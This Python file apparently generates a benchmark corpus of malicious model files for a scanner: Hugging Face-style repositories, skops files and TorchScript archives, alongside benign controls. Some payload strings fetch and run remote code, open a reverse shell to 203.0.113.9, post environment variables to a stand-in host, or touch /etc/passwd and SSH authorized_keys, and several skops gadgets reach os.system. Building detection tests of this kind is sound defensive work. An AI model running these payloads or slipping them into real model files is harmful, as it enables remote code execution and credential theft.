"""Model repositories as folders, skops files and TorchScript archives."""

from __future__ import annotations

import json
from collections.abc import Iterator

from benchmarks.corpus.malicious.asm import BUILD, EMPTY_TUPLE, NEWOBJ, STOP, C, Encoder, S, proto
from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.containers.zips import plain
from benchmarks.corpus.malicious.formats.tensors import safetensors
from benchmarks.corpus.malicious.hosts import EVIL, WEIGHTS, object_npy, torch_members, torch_pickle
from benchmarks.corpus.malicious.payloads import COMMAND

_GOOD_WEIGHTS = safetensors({"w": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}})
_MODEL = """import torch
from torch import nn
from transformers import PreTrainedModel


class ToadModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.layer = nn.Linear(4, 2)
{extra}
    def forward(self, x):
        return self.layer(x)
"""
_IN_INIT = "        import os\n        os.system('curl -s http://198.51.100.7/x | sh')\n"
_EVIL_CODE: dict[str, str] = {
    "init": _MODEL.format(extra=_IN_INIT),
    "top-level": "import os\nos.popen('echo toadstone-inert')\n" + _MODEL.format(extra=""),
    "exec-base64": "import base64 as b\nexec(b.b64decode('aW1wb3J0IG9z'))\n" + _MODEL.format(extra=""),
    "getattr": "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('echo inert')\n" + _MODEL.format(extra=""),
    "download": "import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/s.py').read())\n"
    + _MODEL.format(extra=""),
    "socket": "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\n"
    "os.dup2(s.fileno(), 0)\npty.spawn('sh')\n",
    "steal-token": "import os, requests\nrequests.post('http://198.51.100.7', data=dict(os.environ))\n" + _MODEL.format(extra=""),
    "ctypes": "import ctypes\nctypes.CDLL('./libtoad.so')\n" + _MODEL.format(extra=""),
    "pickle": "import pickle\nHOOK = pickle.loads(bytes.fromhex('636f730a73797374656d0a'))\n" + _MODEL.format(extra=""),
    "subprocess-alias": "from subprocess import run as r\nr(['sh', '-c', 'echo inert'])\n" + _MODEL.format(extra=""),
    "class-body": "class X:\n    y = __import__('os').system('echo inert')\n" + _MODEL.format(extra=""),
    "decorator": "import os\n\n@os.system\ndef echo(): ...\n\n\n@lambda f: os.system('echo inert')\ndef g(): ...\n"
    + _MODEL.format(extra=""),
}


def _config(**more: object) -> bytes:
    return json.dumps({"architectures": ["ToadModel"], "model_type": "toad", "hidden_size": 4, **more}, indent=1).encode()


def _repositories() -> Iterator[Case]:
    auto = {"AutoModel": "modeling_toad.ToadModel", "AutoConfig": "configuration_toad.ToadConfig"}
    for name, code in _EVIL_CODE.items():
        files = {"config.json": _config(auto_map=auto), "modeling_toad.py": code.encode(), "model.safetensors": _GOOD_WEIGHTS}
        yield Case(f"repository/auto-map-{name}", files, f"auto-map-{name}")
    tidy = {"config.json": _config(), "model.safetensors": _GOOD_WEIGHTS}
    remote = {"AutoModel": "inert/payload--modeling_toad.ToadModel"}
    evil: dict[str, tuple[dict[str, bytes], str]] = {
        "auto-map-elsewhere": ({**tidy, "config.json": _config(auto_map=remote)}, "own"),
        "auto-map-missing-code": ({**tidy, "config.json": _config(auto_map=auto)}, "own"),
        "tokenizer-auto-map": (
            {
                **tidy,
                "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tokenization.T", None]}}).encode(),
                "tokenization.py": _EVIL_CODE["top-level"].encode(),
            },
            "own",
        ),
        "attention-kernel": ({**tidy, "config.json": _config(_attn_implementation_internal="inert/payload")}, "CVE-2026-4372"),
        "custom-pipeline": (
            {
                **tidy,
                "config.json": _config(custom_pipelines={"toad": {"impl": "pipe.ToadPipeline", "pt": ["AutoModel"]}}),
                "pipe.py": _EVIL_CODE["top-level"].encode(),
            },
            "own",
        ),
        "custom-generate": (
            {
                **tidy,
                "custom_generate/generate.py": b"import os\n\ndef generate(model, **k):\n    os.system('echo toadstone-inert')\n",
                "custom_generate/requirements.txt": b"http://198.51.100.7/x.tar.gz\n",
            },
            "own",
        ),
        "trust-remote-code": ({**tidy, "config.json": _config(trust_remote_code=True, auto_map=remote)}, "own"),
        "pickled-bin": ({"config.json": _config(), "pytorch_model.bin": plain(torch_members(torch_pickle(evil=True)))}, "own"),
        "pickled-shard": (
            {
                "config.json": _config(),
                "pytorch_model-00001-of-00002.bin": plain(torch_members(torch_pickle())),
                "pytorch_model-00002-of-00002.bin": EVIL,
            },
            "own",
        ),
        "training-args": ({**tidy, "training_args.bin": plain(torch_members(torch_pickle(evil=True)))}, "own"),
        "optimizer": (
            {
                **tidy,
                "checkpoint-3/optimizer.pt": plain(torch_members(torch_pickle(evil=True))),
                "checkpoint-3/rng_state.pth": EVIL,
            },
            "own",
        ),
        "adapter-auto-mapping": (
            {
                "adapter_config.json": json.dumps(
                    {"peft_type": "LORA", "auto_mapping": {"base_model_class": "Payload", "parent_library": "toadstone_payload"}}
                ).encode(),
                "adapter_model.safetensors": _GOOD_WEIGHTS,
            },
            "own",
        ),
        "adapter-bin": ({"adapter_config.json": b'{"peft_type": "LORA"}', "adapter_model.bin": EVIL}, "own"),
        "diffusers-component": (
            {
                "model_index.json": json.dumps(
                    {"_class_name": ["pipeline", "ToadPipeline"], "unet": ["my_unet", "Net"]}
                ).encode(),
                "pipeline.py": _EVIL_CODE["top-level"].encode(),
                "unet/my_unet.py": _EVIL_CODE["init"].encode(),
            },
            "own",
        ),
        "modules-json": (
            {
                "modules.json": json.dumps(
                    [{"idx": 0, "name": "0", "path": "", "type": "toadstone_payload.Transformer"}]
                ).encode(),
                "toadstone_payload.py": _EVIL_CODE["top-level"].encode(),
            },
            "own",
        ),
        "modules-json-elsewhere": (
            {
                "modules.json": json.dumps(
                    [{"idx": 0, "name": "0", "path": "../../x", "type": "inert/payload--modeling.Evil"}]
                ).encode()
            },
            "own",
        ),
        "modules-json-system": (
            {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "echo inert", "type": "os.system"}]).encode()},
            "own",
        ),
        "sentence-activation": (
            {
                "1_Dense/config.json": json.dumps(
                    {"in_features": 4, "out_features": 2, "activation_function": "subprocess.Popen"}
                ).encode(),
                "modules.json": json.dumps(
                    [{"idx": 0, "name": "0", "path": "1_Dense", "type": "sentence_transformers.models.Dense"}]
                ).encode(),
            },
            "own",
        ),
        "dataset-script": (
            {"README.md": b"# data\n", "inert_data.py": b"import os\nimport datasets\nos.system('echo toadstone-inert')\n"},
            "own",
        ),
        "mlmodel": (
            {
                "MLmodel": b"flavors:\n  python_function:\n    loader_module: toadstone_payload\n"
                b"    code: code\n    python_model: model.pkl\n",
                "code/toadstone_payload.py": _EVIL_CODE["top-level"].encode(),
                "model.pkl": EVIL,
            },
            "own",
        ),
        "vocabulary-path": (
            {
                **tidy,
                "tokenizer_config.json": json.dumps(
                    {"vocab_file": "/etc/passwd", "auto_map": {"AutoTokenizer": ["inert/x--t.T", None]}}
                ).encode(),
            },
            "own",
        ),
        "index-parent": (
            {
                "config.json": _config(),
                "model.safetensors.index.json": json.dumps({"weight_map": {"w": "../../../root/secret.safetensors"}}).encode(),
            },
            "own",
        ),
        "quantizer": (
            {
                **tidy,
                "config.json": _config(
                    quantization_config={"quant_method": "toad", "modules_to_not_convert": [], "auto_map": remote}
                ),
            },
            "own",
        ),
    }
    for name, (files, source) in evil.items():
        yield Case(f"repository/{name}", files, f"repository-{name.partition('-')[0]}", source=source)
    benign: dict[str, dict[str, bytes]] = {
        "plain": tidy,
        "own-code": {
            "config.json": _config(auto_map={"AutoModel": "modeling_toad.ToadModel"}),
            "modeling_toad.py": _MODEL.format(extra="").encode(),
            "model.safetensors": _GOOD_WEIGHTS,
        },
        "torch": {"config.json": _config(), "pytorch_model.bin": plain(torch_members(torch_pickle()))},
        "sentence": {
            "modules.json": json.dumps(
                [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]
            ).encode(),
            "model.safetensors": _GOOD_WEIGHTS,
        },
        "adapter": {
            "adapter_config.json": b'{"peft_type": "LORA", "r": 8, "auto_mapping": null}',
            "adapter_model.safetensors": _GOOD_WEIGHTS,
        },
        "diffusers": {
            "model_index.json": b'{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}',
            "unet/model.safetensors": _GOOD_WEIGHTS,
        },
    }
    for name, files in benign.items():
        label = "code-carrying" if name == "own-code" else "benign"
        yield Case(f"repository/benign-{name}", files, f"repository-benign-{name}", label, payload=False)


def _skops(content: object, extra: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    schema = {"protocol": 2, "_skops_version": "0.11.0", **(content if isinstance(content, dict) else {"content": content})}
    return plain([("schema.json", json.dumps(schema).encode()), *extra])


def _skops_cases() -> Iterator[Case]:
    def json_node(value: object) -> dict[str, object]:
        return {
            "__class__": "str",
            "__module__": "builtins",
            "__loader__": "JsonNode",
            "content": json.dumps(value),
            "is_json": True,
        }

    def function(module: str, name: str) -> dict[str, object]:
        return {
            "__class__": name,
            "__module__": module,
            "__loader__": "FunctionNode",
            "content": {"module_path": module, "function": name},
        }

    def mapping(**items: object) -> dict[str, object]:
        kind = {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}
        keys = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [kind] * len(items)}
        return {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": items, "key_types": keys}

    pair = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [json_node(COMMAND)]}
    estimator = {"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "ObjectNode"}
    evil: dict[str, tuple[object, str]] = {
        "function-system": (function("os", "system"), "own"),
        "object-popen": (
            {
                "__class__": "Popen",
                "__module__": "subprocess",
                "__loader__": "ObjectNode",
                "content": mapping(args=json_node("id")),
            },
            "own",
        ),
        "type-node": ({"__class__": "Popen", "__module__": "subprocess", "__loader__": "TypeNode", "content": {}}, "own"),
        "partial": (
            {
                "__class__": "partial",
                "__module__": "functools",
                "__loader__": "PartialNode",
                "content": {"func": function("os", "system"), "args": pair, "kwds": mapping(), "namespace": json_node(None)},
            },
            "own",
        ),
        "method": (
            {
                "__class__": "builtin_function_or_method",
                "__module__": "builtins",
                "__loader__": "MethodNode",
                "content": {"func": "__reduce_ex__", "obj": {**estimator, "content": mapping()}},
            },
            "CVE-2025-54413",
        ),
        "method-inconsistent": (
            {
                "__class__": "LogisticRegression",
                "__module__": "sklearn.linear_model._logistic",
                "__loader__": "MethodNode",
                "content": {"func": "call", "obj": function("builtins", "eval")},
            },
            "CVE-2025-54413",
        ),
        "operator-methodcaller": (
            {
                "__class__": "methodcaller",
                "__module__": "operator",
                "__loader__": "OperatorFuncNode",
                "attrs": {**pair, "content": [json_node("system"), json_node(COMMAND)]},
                "content": {},
            },
            "CVE-2025-54412",
        ),
        "operator-other-module": (
            {"__class__": "system", "__module__": "os", "__loader__": "OperatorFuncNode", "attrs": pair, "content": {}},
            "CVE-2025-54412",
        ),
        "reduce": (
            {
                "__class__": "Tree",
                "__module__": "sklearn.tree._tree",
                "__loader__": "TreeNode",
                "content": {},
                "__reduce__": {"args": pair, "constructor": function("os", "system")},
            },
            "own",
        ),
        "nested-in-estimator": ({**estimator, "content": mapping(C=json_node(1.0), solver=function("os", "popen"))}, "own"),
        "unknown-loader": ({**estimator, "__loader__": "ToadNode", "content": {}}, "own"),
        "user-type": (
            {"__class__": "Payload", "__module__": "toadstone_payload", "__loader__": "ObjectNode", "content": mapping()},
            "own",
        ),
    }
    for name, (content, source) in evil.items():
        yield Case(f"skops/{name}.skops", _skops(content), f"skops-{name.partition('-')[0]}", source=source)
    array = {
        "__class__": "ndarray",
        "__module__": "numpy",
        "__loader__": "NdArrayNode",
        "content": None,
        "type": "numpy",
        "file": "1.npy",
    }
    yield Case("skops/object-array.skops", _skops(array, (("1.npy", object_npy()),)), "skops-array")
    yield Case("skops/pickle-beside.skops", _skops({**estimator, "content": mapping()}, (("extra.pkl", EVIL),)), "skops-array")
    yield Case("skops/is-a-pickle.skops", EVIL, "skops-fallback", source="CVE-2025-54886")
    yield Case(
        "skops/benign-logistic.skops",
        _skops({**estimator, "content": mapping(C=json_node(1.0))}),
        "skops-benign",
        "benign",
        payload=False,
    )
    yield Case(
        "skops/benign-dict.skops", _skops(mapping(a=json_node(1), b=json_node("x"))), "skops-benign", "benign", payload=False
    )


def _script(code: str, evil_pickle: object = None) -> bytes:
    pickler = Encoder(2, memo=False)
    state = {"training": False, **({"extra": evil_pickle} if evil_pickle else {})}
    module = pickler.encode(S("__torch__.toad:Net")) + EMPTY_TUPLE + NEWOBJ + pickler.encode(state) + BUILD
    data = proto(2) + module + STOP
    members = [
        ("toad/data.pkl", data),
        ("toad/code/__torch__/toad.py", code.encode()),
        ("toad/code/__torch__/toad.py.debug_pkl", Encoder(2).dumps((0, "toad.py", 1))),
        ("toad/constants.pkl", Encoder(2).dumps(())),
        ("toad/version", b"3\n"),
        ("toad/data/0", WEIGHTS),
    ]
    return plain(members)


_NET = (
    "class Net(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
    "  def forward(self: __torch__.toad.Net,\n    x: Tensor) -> Tensor:\n{body}    return x\n"
)


def _torchscript() -> Iterator[Case]:
    bodies = {
        "from-file": '    y = torch.from_file("/etc/passwd", False, 16, dtype=0)\n',
        "save": '    torch.save(x, "/root/.bashrc")\n',
        "ops-custom": '    _0 = ops.toadstone_inert.system("echo inert")\n',
        "ops-aten-save": '    _0 = ops.aten.save(x, "/root/.ssh/authorized_keys")\n',
        "rpc": '    _0 = ops.rpc.rpc_sync("203.0.113.9", "os.system", ("echo inert",))\n',
        "python-op": '    _0 = ops.prim.PythonOp("os.system", "echo inert")\n',
        "endless-loop": "    i = 0\n    while True:\n      i = torch.add(i, 1)\n",
        "huge-allocation": "    y = torch.zeros([100000, 100000, 1000])\n",
    }
    for name, body in bodies.items():
        yield Case(f"torchscript/{name}.pt", _script(_NET.format(body=body)), f"torchscript-{name}")
    yield Case("torchscript/pickle-call.pt", _script(_NET.format(body=""), C("os:system", COMMAND)), "torchscript-pickle")
    python = "import os\nos.system('echo toadstone-inert')\n"
    yield Case("torchscript/plain-python.pt", _script(python), "torchscript-python")
    good = "    y = torch.add(x, 1)\n    z = torch.relu(y)\n"
    yield Case("torchscript/benign.pt", _script(_NET.format(body=good)), "torchscript-benign", "benign", payload=False)


def cases() -> Iterator[Case]:
    """All of them."""
    yield from _repositories()
    yield from _skops_cases()
    yield from _torchscript()
